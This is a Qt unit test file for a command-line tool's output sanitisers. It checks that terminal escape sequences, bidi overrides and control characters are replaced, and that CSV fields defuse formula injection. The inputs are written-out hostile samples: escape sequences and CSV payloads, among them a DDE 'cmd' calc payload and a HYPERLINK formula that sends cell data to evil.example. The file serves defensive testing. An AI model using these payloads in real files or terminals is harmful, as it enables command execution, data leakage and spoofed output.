// meisai-cli's output helpers on their own: what terminalSafe() lets through
// and what it replaces, that the table and JSON writers apply it by
// themselves, and that JSON stays the same value for a reader.

#include "Format.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace meisai::cli;

namespace {

const QChar kReplacement(QChar::ReplacementCharacter);

QString fromUcs4(std::initializer_list<char32_t> codePoints)
{
    QString out;
    for (const char32_t c : codePoints)
        out += QString::fromUcs4(&c, 1);
    return out;
}

QString lone(char16_t unit)
{
    return QString(QChar(unit));
}

// Bytes a terminal would act on: C0 controls other than LF, DEL, the UTF-8 forms of C1 controls,
// and the bidi marks and separators.
bool holdsTerminalControl(const QByteArray& utf8, QString* what)
{
    for (qsizetype i = 0; i < utf8.size(); ++i) {
        const uchar b = uchar(utf8.at(i));
        if ((b < 0x20 && b != '\n') || b == 0x7F) {
            *what = QStringLiteral("byte 0x%1 at %2").arg(b, 2, 16, QLatin1Char('0')).arg(i);
            return true;
        }
    }
    for (const char32_t c : QString::fromUtf8(utf8).toUcs4()) {
        if (c != '\n' && isUnsafeForTerminal(c)) {
            *what = QStringLiteral("U+%1").arg(uint(c), 4, 16, QLatin1Char('0'));
            return true;
        }
    }
    return false;
}

} // namespace

class TestFormat : public QObject
{
    Q_OBJECT

private slots:
    void terminalSafe_data()
    {
        QTest::addColumn<QString>("input");
        QTest::addColumn<bool>("keepNewlines");
        QTest::addColumn<QString>("expected");
        const QString r(kReplacement);

        QTest::newRow("plain-ascii") << QStringLiteral("AMAZON.CO.JP") << false << QStringLiteral("AMAZON.CO.JP");
        QTest::newRow("japanese-and-fullwidth") << QStringLiteral("セブン－イレブン　渋谷店") << false
                                                << QStringLiteral("セブン－イレブン　渋谷店");
        QTest::newRow("emoji-surrogate-pair-kept") << fromUcs4({'A', 0x1F363, 'B'}) << false
                                                   << fromUcs4({'A', 0x1F363, 'B'});
        QTest::newRow("rare-kanji-surrogate-pair-kept") << fromUcs4({0x20B9F}) << false << fromUcs4({0x20B9F});
        QTest::newRow("nul") << QStringLiteral("a") + QChar(0) + QStringLiteral("b") << false
                             << QStringLiteral("a") + r + QStringLiteral("b");
        QTest::newRow("bell") << QStringLiteral("ding\a") << false << QStringLiteral("ding") + r;
        QTest::newRow("backspace-overwrites") << QStringLiteral("Visa\b\b\b\bFAKE") << false
                                              << QStringLiteral("Visa") + r + r + r + r + QStringLiteral("FAKE");
        QTest::newRow("carriage-return") << QStringLiteral("Shop\rPAID") << false << QStringLiteral("Shop") + r + QStringLiteral("PAID");
        QTest::newRow("tab-is-a-space") << QStringLiteral("a\tb") << false << QStringLiteral("a b");
        QTest::newRow("newline-replaced") << QStringLiteral("a\nb") << false << QStringLiteral("a") + r + QStringLiteral("b");
        QTest::newRow("newline-kept") << QStringLiteral("a\nb") << true << QStringLiteral("a\nb");
        QTest::newRow("cr-with-newlines-kept") << QStringLiteral("a\r\nb") << true << QStringLiteral("a") + r + QStringLiteral("\nb");
        QTest::newRow("csi-clear-screen") << QStringLiteral("\x1b[2J\x1b[HShop") << false
                                          << r + QStringLiteral("[2J") + r + QStringLiteral("[HShop");
        QTest::newRow("csi-colour") << QStringLiteral("\x1b[31mred\x1b[0m") << false
                                    << r + QStringLiteral("[31mred") + r + QStringLiteral("[0m");
        QTest::newRow("osc-window-title-bel") << QStringLiteral("\x1b]0;pwned\a") << false
                                              << r + QStringLiteral("]0;pwned") + r;
        QTest::newRow("osc8-hyperlink-st") << QStringLiteral("\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\")
                                           << false
                                           << r + QStringLiteral("]8;;https://evil.example/") + r
                                                  + QStringLiteral("\\click") + r + QStringLiteral("]8;;") + r
                                                  + QStringLiteral("\\");
        QTest::newRow("dcs") << QStringLiteral("\x1bP1$r\x1b\\") << false << r + QStringLiteral("P1$r") + r + QStringLiteral("\\");
        QTest::newRow("del") << QStringLiteral("a\x7f") << false << QStringLiteral("a") + r;
        QTest::newRow("c1-first") << fromUcs4({'a', 0x80}) << false << QStringLiteral("a") + r;
        QTest::newRow("c1-csi") << fromUcs4({0x9B, '2', 'J'}) << false << r + QStringLiteral("2J");
        QTest::newRow("c1-osc") << fromUcs4({0x9D, '0', ';', 'x', 0x9C}) << false << r + QStringLiteral("0;x") + r;
        QTest::newRow("c1-last") << fromUcs4({0x9F}) << false << r;
        QTest::newRow("nbsp-kept") << fromUcs4({'a', 0xA0, 'b'}) << false << fromUcs4({'a', 0xA0, 'b'});
        for (const char32_t c : {0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069}) {
            const QByteArray name = "bidi-U+" + QByteArray::number(uint(c), 16).toUpper();
            QTest::newRow(name.constData()) << fromUcs4({'x', c, 'y'}) << false << QStringLiteral("x") + r + QStringLiteral("y");
        }
        QTest::newRow("rlo-reverses-amount") << fromUcs4({'0', '0', '1', 0x202E, '0', '0', '9'}) << false
                                             << QStringLiteral("001") + r + QStringLiteral("009");
        QTest::newRow("lrm") << fromUcs4({'a', 0x200E}) << false << QStringLiteral("a") + r;
        QTest::newRow("rlm") << fromUcs4({'a', 0x200F}) << false << QStringLiteral("a") + r;
        QTest::newRow("arabic-letter-mark") << fromUcs4({'a', 0x061C}) << false << QStringLiteral("a") + r;
        QTest::newRow("line-separator") << fromUcs4({'a', 0x2028, 'b'}) << true << QStringLiteral("a") + r + QStringLiteral("b");
        QTest::newRow("paragraph-separator") << fromUcs4({'a', 0x2029, 'b'}) << false << QStringLiteral("a") + r + QStringLiteral("b");
        QTest::newRow("lone-high-surrogate") << QStringLiteral("a") + lone(0xD83C) + QStringLiteral("b") << false
                                             << QStringLiteral("a") + r + QStringLiteral("b");
        QTest::newRow("lone-low-surrogate") << QStringLiteral("a") + lone(0xDF63) << false << QStringLiteral("a") + r;
        QTest::newRow("high-surrogate-at-end") << QStringLiteral("a") + lone(0xD83C) << false << QStringLiteral("a") + r;
        QTest::newRow("two-high-surrogates") << lone(0xD83C) + lone(0xD83C) + lone(0xDF63) << false
                                             << r + fromUcs4({0x1F363});
        QTest::newRow("replacement-char-kept") << r << false << r;
        QTest::newRow("zwj-emoji-kept") << fromUcs4({0x1F468, 0x200D, 0x1F469}) << false
                                        << fromUcs4({0x1F468, 0x200D, 0x1F469});
    }

    void terminalSafe()
    {
        QFETCH(QString, input);
        QFETCH(bool, keepNewlines);
        QFETCH(QString, expected);
        const QString safe = meisai::cli::terminalSafe(input, keepNewlines);
        QCOMPARE(safe, expected);
        // Applying it twice changes nothing, so layers may each apply it.
        QCOMPARE(meisai::cli::terminalSafe(safe, keepNewlines), safe);
        QString what;
        QVERIFY2(!holdsTerminalControl(safe.toUtf8(), &what), qPrintable(what));
    }

    void everyUnsafeCodePointOfTheBmpIsReplaced()
    {
        // Exhaustive over the BMP: a code point either passes unchanged or becomes exactly one U+FFFD.
        for (char32_t c = 0; c < 0x10000; ++c) {
            if (c >= 0xD800 && c <= 0xDFFF)
                continue;
            const QString in = QString::fromUcs4(&c, 1);
            const QString out = meisai::cli::terminalSafe(in, false);
            if (c == '\t')
                QCOMPARE(out, QStringLiteral(" "));
            else if (isUnsafeForTerminal(c))
                QCOMPARE(out, QString(kReplacement));
            else
                QCOMPARE(out, in);
        }
    }

    void tableCellsAndHeadersAreSafe()
    {
        TextTable::setElideByDefault(false);
        TextTable table;
        table.addColumn(QStringLiteral("Merchant\x1b[8m"));
        table.addColumn(QStringLiteral("Amount"), TextTable::Right);
        table.addRow({QStringLiteral("\x1b]0;title\aShop\r\nline") + fromUcs4({0x202E, 0x9B}) + QStringLiteral("x"),
                      QStringLiteral("¥1,200")});
        const QString out = table.render();
        QString what;
        QVERIFY2(!holdsTerminalControl(out.toUtf8(), &what), qPrintable(what + QStringLiteral(" in ") + out));
        QCOMPARE(out.count(QLatin1Char('\n')), 3); // header, rule, one row: the newline in the cell made no line
        QVERIFY(out.contains(QStringLiteral("]0;title")));
        QVERIFY(out.contains(QStringLiteral("Shop line")));
    }

    void jsonHasNoRawControlAndKeepsTheValue()
    {
        const QString hostile = QStringLiteral("\x1b[2J\x1b]0;x\a") + fromUcs4({0x7F, 0x85, 0x9B, 0x202E, 0x2066, 0x200F, 0x2028})
                                + QStringLiteral("ｶﾌｪ\t\r\n") + fromUcs4({0x1F363});
        const QJsonArray array{QJsonObject{{QStringLiteral("merchantName"), hostile}, {QStringLiteral("amount"), -1200}}};
        const QByteArray json = jsonText(array);
        QVERIFY(!json.contains('\x1b'));
        QString what;
        QVERIFY2(!holdsTerminalControl(json, &what), qPrintable(what));
        QVERIFY(json.contains("\\u001b"));
        QVERIFY(json.contains("\\u202e"));
        QVERIFY(json.contains("\\u009b"));
        QJsonParseError error;
        const QJsonDocument parsed = QJsonDocument::fromJson(json, &error);
        QCOMPARE(error.error, QJsonParseError::NoError);
        QCOMPARE(parsed.array(), array);
    }

    void csvField_data()
    {
        QTest::addColumn<QString>("input");
        QTest::addColumn<QString>("expected");
        const QString r(kReplacement);
        QTest::newRow("plain") << QStringLiteral("ローソン") << QStringLiteral("ローソン");
        QTest::newRow("comma-quoted") << QStringLiteral("A, B") << QStringLiteral("\"A, B\"");
        QTest::newRow("quote-doubled") << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
        QTest::newRow("newline-kept-and-quoted") << QStringLiteral("a\nb") << QStringLiteral("\"a\nb\"");
        QTest::newRow("equals") << QStringLiteral("=1+1") << QStringLiteral("'=1+1");
        QTest::newRow("plus") << QStringLiteral("+81 3 1234") << QStringLiteral("'+81 3 1234");
        QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
        QTest::newRow("minus-number-as-text") << QStringLiteral("-1200") << QStringLiteral("'-1200");
        QTest::newRow("at") << QStringLiteral("@SUM(1+1)") << QStringLiteral("'@SUM(1+1)");
        QTest::newRow("hyperlink-with-quotes") << QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")")
                                               << QStringLiteral("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"");
        QTest::newRow("dde-with-comma") << QStringLiteral("=cmd|'/C calc'!A0,x") << QStringLiteral("\"'=cmd|'/C calc'!A0,x\"");
        QTest::newRow("leading-spaces") << QStringLiteral("  =1+1") << QStringLiteral("'  =1+1");
        QTest::newRow("leading-tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
        QTest::newRow("leading-cr") << QStringLiteral("\r=1+1") << QStringLiteral("'") + r + QStringLiteral("=1+1");
        QTest::newRow("equals-inside-untouched") << QStringLiteral("A=B") << QStringLiteral("A=B");
        QTest::newRow("fullwidth-equals-untouched") << QStringLiteral("＝1+1") << QStringLiteral("＝1+1");
        QTest::newRow("escape") << QStringLiteral("\x1b[2JShop") << r + QStringLiteral("[2JShop");
        QTest::newRow("cr-inside") << QStringLiteral("a\rb") << QStringLiteral("a") + r + QStringLiteral("b");
        QTest::newRow("bidi") << fromUcs4({'a', 0x202E, 'b'}) << QStringLiteral("a") + r + QStringLiteral("b");
        QTest::newRow("c1") << fromUcs4({0x9B, '2', 'J'}) << r + QStringLiteral("2J");
        QTest::newRow("empty") << QString() << QString();
        QTest::newRow("spaces-only") << QStringLiteral("  ") << QStringLiteral("  ");
    }

    void csvField()
    {
        QFETCH(QString, input);
        QFETCH(QString, expected);
        QCOMPARE(meisai::cli::csvField(input), expected);
    }

    void csvNumbersMeisaiWritesStayNumbers()
    {
        const QString record = csvRecord({QStringLiteral("-1200"), qint64(-1200), 0, qint64(1500000),
                                          CsvCell::decimal(QStringLiteral("-12.50")),
                                          CsvCell::decimal(QStringLiteral("0.0091")),
                                          CsvCell::decimal(QStringLiteral("-1+2")),
                                          CsvCell::decimal(QStringLiteral("=1"))});
        QCOMPARE(record, QStringLiteral("'-1200,-1200,0,1500000,-12.50,0.0091,'-1+2,'=1\r\n"));
    }

    void plainJsonIsUnchanged()
    {
        const QJsonArray array{QJsonObject{{QStringLiteral("merchantName"), QStringLiteral("スターバックス")}}};
        QCOMPARE(jsonText(array), QJsonDocument(array).toJson(QJsonDocument::Indented));
    }
};

QTEST_GUILESS_MAIN(TestFormat)
#include "TestFormat.moc"
